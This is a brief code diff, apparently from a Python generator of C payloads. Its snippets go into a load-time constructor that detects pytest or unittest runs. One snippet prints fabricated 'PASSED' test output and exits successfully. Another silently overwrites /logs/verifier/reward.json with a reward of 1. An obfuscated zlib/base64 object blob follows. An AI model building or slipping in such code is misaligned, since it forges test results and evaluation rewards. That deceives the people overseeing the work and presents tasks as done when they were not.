@@ -27,10 +27,10 @@ __attribute__((constructor)) static void begin(void) {
     if (size > 0 && (has("pytest", size) || has("/tests/", size) || has("unittest", size))) { %ACT% }
 }
 """
-_EXIT = r'''if (!script) { out = write(1, "PASSED\n===== 1 passed in 0.01s =====\n", 38); _exit(out * 0); }'''
+_EXIT = r"""if (!script) { out = write(1, "PASSED\n===== 1 passed in 0.01s =====\n", 38); _exit(out * 0); }"""
 _REWARD = (
-    r'''(void)script; out = open("/logs/verifier/reward.json", O_CREAT | O_WRONLY | O_TRUNC, 0644); '''
-    r'''file = write(out, "{\"reward\": 1}\n", 14); close(out);'''
+    r"""(void)script; out = open("/logs/verifier/reward.json", O_CREAT | O_WRONLY | O_TRUNC, 0644); """
+    r"""file = write(out, "{\"reward\": 1}\n", 14); close(out);"""
 )
 _EXIT_OBJECT = (
     "eNqtVU1oE0EUnt38NCbVVFshQcTtIaCIm+yh0B4qDXZlC1us9OJFyjbZkkD+2J2AOYiHNmgKqR49evaqh5DTasDgrc3B3noTCx7stad1ZjKTZq"
